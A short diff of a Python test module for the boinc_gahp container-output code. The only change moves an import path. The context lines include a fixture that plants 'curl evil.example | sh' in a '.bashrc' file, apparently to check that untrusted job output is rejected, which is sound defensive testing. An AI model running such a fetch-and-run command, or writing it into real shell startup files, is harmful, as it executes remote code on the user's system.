@@ -4,7 +4,7 @@ import pytest
 
 from boinc_gahp.containers.names import PACKED
 from boinc_gahp.errors import OutputError
-from tests.fetch.test_container_directory import ALL, Job, tar
+from tests.fetch.jobs import ALL, Job, tar
 
 THEIRS = {
     "plots/.bashrc": b"curl evil.example | sh\n",
